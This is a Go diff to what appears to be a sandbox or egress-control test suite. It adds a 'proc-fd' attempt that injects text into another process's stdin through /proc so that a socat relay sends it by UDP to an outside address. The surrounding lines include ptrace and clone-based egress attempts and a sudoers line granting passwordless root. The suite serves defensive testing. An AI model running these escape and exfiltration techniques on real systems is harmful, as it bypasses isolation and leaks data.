@@ -53,6 +53,15 @@ func processAttempts() []Attempt {
 			all = append(all, older)
 		}
 	}
+	// somebody outside sends on whatever comes through a pipe
+	pipe := func(t testing.TB, e *Env) {
+		e.words(t, e.Helper(t, "bash", "-c", "sleep 600 | { echo reader $BASHPID; exec socat -u - UDP:"+e.Words["to"]+"; }"), "reader", "pid")
+	}
+	passedOn := func(t testing.TB, e *Env, r Result) {
+		if r.Exit == 0 {
+			e.Outside.WaitGot(e.Text, slow)
+		}
+	}
 	user := []string{"setpriv", "--reuid=1000", "--regid=1000", "--clear-groups"}
 	const dir = "/usr/local/lib/egress"
 	install := func(t testing.TB, _ *Env) {
@@ -61,6 +70,7 @@ func processAttempts() []Attempt {
 			"echo 'agent ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/agent && chmod 440 /etc/sudoers.d/agent")
 	}
 	all = append(all,
+		Attempt{ID: "B30", Name: "proc-fd", Indirect: true, Argv: shell("echo {say} >/proc/{pid}/fd/0"), Prepare: pipe, Ended: passedOn},
 		Attempt{ID: "B30", Name: "traceme", Argv: egress("ptrace-traceme -to {to}")},
 		Attempt{ID: "B30", Name: "clone-vm", Argv: egress("twin -to {to}")},
 		late("B30", "clone-vm-older", "twin -to {to}", "socket"),
